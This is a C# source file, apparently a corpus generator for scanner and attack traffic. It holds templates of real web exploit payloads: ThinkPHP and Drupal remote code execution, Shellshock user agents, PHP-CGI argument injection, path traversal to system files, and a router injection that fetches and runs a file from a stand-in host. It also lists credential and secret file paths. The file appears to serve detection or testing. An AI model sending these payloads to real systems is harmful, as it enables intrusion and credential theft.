namespace Weir.Http.Corpus.Attacks.Other;

/// <summary>Paths, parameters and agents of scanners: what lies about on a server and should not be served.</summary>
/// <remarks>OWASP WSTG-CONF-04 and 05, CAPEC-87, CAPEC-169, CWE-538, CWE-552.</remarks>
internal static class ScannerProbes
{
    public const string Text = """"
        §scanner
        5× /«hidden»
        4× /«adminpath»
        4× /«backupfile»
        3× /«cgipath»
        4× /«appprobe»
        2× /«cms»
        2× /«word»/«hidden»
        «agents»
        2× «debugparam»
        2× «oldserver»
        §oldserver
        «¦/«word»»«::$DATA¦::DATA$¦::%24data¦+.htr¦.htr¦%3f+.htr¦%2e0¦.%E2%73%70¦%E2%80¦.asp%00¦.asp.¦%2easp¦.jsp%00¦.JSP¦.js%70¦%20.jsp¦.asp%20¦~1¦~1/.rem¦*~1*/¦.php%20¦?.jsp¦;.css¦;.js¦%3b.js¦/%3f.jsp»
        «/..%255c..%255c¦/..%c0%af../¦.%5c../..%5c¦/%2e/¦/.%00/¦/%3f.jsp¦/?wp-cs-dump¦/?PageServices¦/?S=A¦/*.jsp¦/WEB-INF./web.xml¦//WEB-INF/web.xml¦/%57EB-INF/web.xml¦/..;/manager/html»
        §hidden
        4× .git/«config¦HEAD¦index¦logs/HEAD¦refs/heads/master¦objects/¦description¦COMMIT_EDITMSG¦packed-refs¦info/exclude¦FETCH_HEAD»
        4× .env«¦.bak¦.local¦.production¦.dev¦.old¦.save¦.example¦.backup¦.swp¦~¦.prod¦.staging¦.txt¦.1»
        2× .«svn/entries¦svn/wc.db¦hg/hgrc¦hg/store/00manifest.i¦bzr/branch-format¦CVS/Entries¦DS_Store»
        2× .«aws/credentials¦aws/config¦ssh/id_rsa¦ssh/authorized_keys¦ssh/known_hosts¦docker/config.json¦dockercfg¦kube/config¦npmrc¦pypirc¦netrc¦pgpass¦my.cnf¦bash_history¦bashrc¦mysql_history¦profile¦zsh_history¦gitconfig¦git-credentials¦gitlab-ci.yml¦travis.yml¦htpasswd¦htaccess¦user.ini¦idea/workspace.xml¦vscode/sftp.json¦ftpconfig¦s3cfg¦boto¦config/gcloud/credentials.db¦terraform/terraform.tfstate¦circleci/config.yml¦dbshell»
        «CVS/Root¦Thumbs.db¦WEB-INF/web.xml¦META-INF/context.xml¦WS_FTP.LOG¦sftp-config.json¦id_rsa¦server.key¦credentials.json¦secrets.yml¦docker-compose.yml¦Dockerfile¦config/database.yml¦composer.lock¦wp-config.php.bak¦config.inc.php~¦web.config.bak¦appsettings.Production.json¦terraform.tfstate¦phpunit.xml¦Jenkinsfile¦Vagrantfile¦npm-debug.log¦crossdomain.xml¦dump.rdb¦key.pem¦privatekey.key»
        §adminpath
        3× wp-«login.php¦admin/¦admin/admin-ajax.php?action=«rand»¦admin/install.php¦admin/setup-config.php¦config.php«.bak¦~¦.swp¦.old¦.txt¦.save»¦json/wp/v2/users«¦/1»¦content/debug.log¦content/plugins/«rand»/readme.txt¦includes/wlwmanifest.xml¦cron.php¦signup.php¦trackback.php»
        2× «phpmyadmin¦phpMyAdmin¦pma¦PMA¦myadmin¦mysql¦dbadmin¦sqlmanager¦phpMyAdmin-«#2-5».«#0-9».«#0-9»¦mysqladmin¦adminer.php¦adminer-4.«#1-9».«#0-9».php¦pgadmin4¦phppgadmin»/«¦index.php¦scripts/setup.php¦server_import.php»
        2× actuator«¦/env¦/heapdump¦/health¦/mappings¦/gateway/routes¦/jolokia¦/loggers¦/threaddump¦/trace¦/configprops¦/beans¦/httptrace¦/shutdown¦/logfile¦;/env»
        2× «manager/html¦manager/text/list¦host-manager/html¦jmx-console/¦web-console/Invoker¦invoker/JMXInvokerServlet¦console/login/LoginForm.jsp¦wls-wsat/CoordinatorPortType¦_async/AsyncResponseService¦jenkins/script¦script¦solr/admin/cores?wt=json¦druid/index.html¦nacos/v1/auth/users?pageNo=1&pageSize=9¦axis2/axis2-admin/¦hudson/script¦jolokia/list¦swagger/v1/swagger.json¦v2/api-docs¦graphql?query={__schema{types{name}}}»
        «admin¦administrator¦admin1¦cpanel¦webadmin¦sysadmin¦adm¦siteadmin¦controlpanel»«/login.«php¦asp¦jsp¦aspx»¦.php¦/config.php¦/backup/¦/phpinfo.php»
        «server-status¦server-info¦nginx_status¦status?full¦phpinfo.php¦info.php¦test.php¦php.php¦i.php¦_profiler/phpinfo¦app_dev.php/_profiler/open?file=app/config/parameters.yml¦debug/default/view?panel=config¦elmah.axd¦trace.axd¦_ignition/execute-solution¦telescope/requests¦horizon/dashboard¦debug/pprof/heap¦__debug__/¦rails/info/properties¦_cat/indices¦_all_dbs¦_search?pretty»
        «boaform/admin/formLogin¦HNAP1/¦goform/«rand»¦cgi-bin/luci¦setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=«shellcmd→plus»¦GponForm/diag_Form?images/¦shell?cd+/tmp;rm+-rf+*;wget+«evilurl»;sh+/tmp/«rand»¦language/Swedish${IFS}&&«shellcmd→ifs»¦tmUnblock.cgi¦hedwig.cgi¦apply.cgi¦currentsetting.htm¦remote/login?lang=en¦dana-na/auth/url_default/welcome.cgi¦vpn/../vpns/cfg/smb.conf¦+CSCOE+/logon.html¦owa/auth/x.js¦autodiscover/autodiscover.json?@«evilhost»/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@«evilhost»¦ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application¦mgmt/tm/util/bash¦tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=«unixfile»¦sdk/../../../../«unixfile»¦webtools/control/xmlrpc¦cgi-bin/viewcert¦nice%20ports,/Trinity.txt.bak¦HelpController¦evox/about¦sdk¦portal/redlion¦.well-known/security.txt%00»
        §backupfile
        3× «backup¦site¦www¦web¦db¦dump¦data¦database¦wwwroot¦html¦old¦public_html¦backup_«#2015-2025»¦bak¦sql¦mysql¦«word»_backup¦users¦localhost¦htdocs¦source¦website».«zip¦tar.gz¦sql¦rar¦tgz¦7z¦bak¦sql.gz¦tar¦bz2¦mdb¦sqlite¦war»
        2× «index¦config¦login¦settings¦database¦db¦conn¦configuration¦main¦admin».«php¦asp¦jsp¦aspx¦inc».«bak¦old¦swp¦save¦orig¦txt¦copy¦1¦backup¦tmp¦dist»
        .«index¦config¦login¦settings¦wp-config».php.sw«p¦o¦n»
        «index¦config¦login¦web»«.php~¦.php_bak¦.config.old¦.jsp%20¦.php.~1~¦ (copy).php¦.asp::$DATA¦.php%00»
        «Copy of¦Copy_(1)_of_»%20«index.php¦config.asp»
        #«index.php#¦config.php#»
        §cgipath
        3× cgi-bin/«test-cgi¦printenv¦php¦php-cgi¦status¦test.cgi¦awstats.pl¦formmail.pl¦phf?Qalias=x%0a/bin/cat%20«unixfile»¦bash¦sh¦admin.cgi¦htsearch?-c«unixfile»¦nph-test-cgi?*¦count.cgi¦webdist.cgi¦finger?«word»¦php5¦guestbook.pl¦wwwboard.pl¦env.cgi¦.%2e/.%2e/.%2e/bin/sh¦%%32%65%%32%65/bin/sh¦authLogin.cgi¦kerbynet¦ViewLog.asp¦cgiServer.exx»
        scripts/«..%c0%af../winnt/system32/cmd.exe?/c+dir¦root.exe?/c+dir¦iisadmin/ism.dll¦tools/newdsn.exe¦samples/search/queryhit.htm¦..%255c..%255cwinnt/system32/cmd.exe?/c+dir»
        «_vti_bin/shtml.dll¦_vti_bin/owssvr.dll¦_vti_pvt/service.pwd¦_vti_inf.html¦iissamples/exair/search/advsearch.asp¦msadc/msadcs.dll¦MSADC/root.exe?/c+dir¦default.ida?«letter*20-60»%u9090%u6858¦null.htw¦iisadmpwd/aexp.htr¦sumthin¦perl/-e%20print%20Hello¦cfide/administrator/index.cfm¦CFIDE/componentutils/¦servlet/SnoopServlet¦examples/jsp/snp/snoop.jsp¦lcds-samples/testdrive.htm»
        «cgi-sys¦cgi¦cgi-bin¦cgi-local¦cgis¦htbin¦cgi-win»/««word»¦«rand»».«cgi¦pl¦sh¦exe»«?«shellcmd→plus»¦?|«shellcmd→plus»|¦»
        ?-«s¦d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input¦n+-d+allow_url_include%3don»
        §appprobe
        3× «¦vendor/¦lib/¦laravel/vendor/¦www/vendor/¦api/vendor/¦backup/vendor/¦workspace/drupal/vendor/¦yii/vendor/¦zend/vendor/»phpunit/«phpunit/¦¦phpunit/src/»«src/¦¦Util/»Util/PHP/eval-stdin.php
        2× «?s=¦index.php?s=/Index/»\think\app/invokefunction&function=call_user_func_array&vars[0]=««phpsys»¦md5»&vars[1][]=«shellcmd→plus»
        index.php?s=«captcha¦/index/\think\Request/input&filter=«phpsys»&data=«shellcmd→plus»¦index/think\config/get&name=database.username»
        index.php?lang=../../../../../../../../«unixfile»
        index.php?option=com_«rand»&view=«rand»&«param»=«../../../../..¦-1+union+select+1,2,3»
        user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax
        «?q=user/password&name[%23post_render][]=«phpsys»&name[%23type]=markup&name[%23markup]=«shellcmd→plus»»
        _ignition/execute-solution
        api/jsonws/invoke
        struts2-showcase/«rand».action
        «login¦index¦«word»».action?redirect:${«num»*«num»}
        cgi-bin/«rand».cgi?cmd=«shellcmd→plus»
        «console/css/%252e%252e%252fconsole.portal?_nfpb=true¦seeyon/htmlofficeservlet¦yyoa/common/js/menu/test.jsp?doType=101&S1=«rand»¦weaver/bsh.servlet.BshServlet¦general/login_code.php¦ispirit/interface/gateway.php¦UtilServlet¦ucenter/uc_key¦data/plus/«rand».inc.php¦plus/mytag_js.php?aid=«#1-9999»¦e/data/ecmseditor/infoeditor/epage/TranFile.php»
        plugins/servlet/«gadgets/makeRequest?url=«evilurl»¦oauth/users/icon-uri?consumerUri=«evilurl»»
        «¦_»api/v«#1-3»/«pods¦namespaces¦totp/user-backup-code/../../system/system-information¦targets»
        securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?sandbox=true&value=«rand»
        «containers/json¦v1.«#10-41»/containers/create¦images/json¦v2/_catalog¦v1/agent/self¦v2/keys/?recursive=true»
        «rand»«404¦».«php¦asp¦cfm¦jsp»?«<script>alert(1)</script>¦-->">'>'"»
        «letter*8-12»test.«php¦jsp¦txt¦html»
        «druid/indexer/v1/sampler¦ws/v1/cluster/apps/new-application¦jars/upload¦jobmanager/config¦v1/submissions/create¦api/experimental/test¦_users/org.couchdb.user:«word»¦_config/query_servers/cmd¦_node/_local/_config»
        §cms
        wp-content/plugins/««rand»¦revslider¦wp-file-manager¦«rand»-«rand»¦duplicator»/«lib/php/connector.minimal.php¦temp/update_extract/revslider/«rand».php¦readme.txt¦download.php?file=../../../wp-config.php¦includes/«rand».php?«param»=«evilurl»¦admin/«rand».php¦upload.php¦timthumb.php?src=«evilurl»»
        wp-admin/admin-ajax.php?action=«revslider_show_image&img=../wp-config.php¦duplicator_download&file=..%2Fwp-config.php¦«rand»&«param»=«evilurl»»
        xmlrpc.php«¦?rsd»
        <methodCall><methodName>«system.multicall¦wp.getUsersBlogs¦pingback.ping¦system.listMethods»</methodName><params>«¦<param><value><string>«evilurl»</string></value></param>»</params></methodCall>
        ?author=«#1-20»
        «administrator/manifests/files/joomla.xml¦components/com_«rand»/¦index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(1,concat(0x7e,version()),1)¦CHANGELOG.txt¦sites/default/settings.php¦misc/ajax.js¦typo3conf/localconf.php¦downloader/index.php¦app/etc/local.xml¦RELEASE_NOTES.txt¦bitrix/admin/index.php¦user/login?destination=«evilhost»¦modules/mod_simplefileuploadv1.3/elements/udd.php¦magmi/web/magmi.php¦umbraco/webservices/codeEditorSave.asmx¦sitecore/shell/sitecore.version.xml¦telerik.web.ui.webresource.axd?type=rau»
        §agents
        «sqlmap/1.«#0-8».«#0-20»#«stable¦dev» (http«s¦»://sqlmap.org)¦Nikto/2.«#1-5».«#0-9»¦Mozilla/5.00 (Nikto/2.1.«#0-9») (Evasions:None) (Test:«#100000-999999»)¦Nmap Scripting Engine¦Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)¦masscan/1.«#0-3» (https://github.com/robertdavidgraham/masscan)¦zgrab/0.x¦Nuclei - Open-source project (github.com/projectdiscovery/nuclei)¦WPScan v3.«#1-9».«#0-20» (https://wpscan.com/wordpress-security-scanner)¦DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)¦gobuster/3.«#0-6»¦Fuzz Faster U Fool v«#1-2».«#0-5».«#0-9»-dev¦Wfuzz/«#2-3».«#0-4»¦Acunetix-«rand»¦() { :;}; /bin/bash -c "«shellcmd»"¦() { :; }; echo; «shellcmd»¦w3af.org¦Arachni/v1.«#0-6»¦dirsearch/0.«#3-5».«#0-9»¦hydra/9.«#0-5»¦Mozilla/4.0 (Hydra)¦feroxbuster/2.«#0-9».«#0-9»¦OpenVAS-VT «#20-23».«#1-9».0¦Havij¦ZmEu¦Morfeus Fucking Scanner¦muieblackcat¦jorgee¦netsparker-«rand»¦Paros/3.2.13¦whatweb/0.5.«#0-9»¦commix/v3.«#0-9»-stable¦XSStrike¦Hello, World¦libwww-perl/6.«#10-60»«¦ <?php system('id');?>»¦AppScan¦burpcollaborator¦Qualys WAS»
        §debugparam
        «?=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000¦?=PHPE9568F3«4¦5¦6»-D428-11d2-A769-00AA001ACF42¦?XDEBUG_SESSION_START=phpstorm¦?phpinfo=-1¦?debug=1&cmd=«shellcmd→plus»¦?GLOBALS[«word»]=«num»¦?_SERVER[DOCUMENT_ROOT]=«evilurl»¦?PHPRC=/dev/fd/0¦?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input¦?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input¦;sleep+«#1-9»;¦?page=admin&admin=true&debug=true¦?test=../../../../«unixfile»»
        """";
}
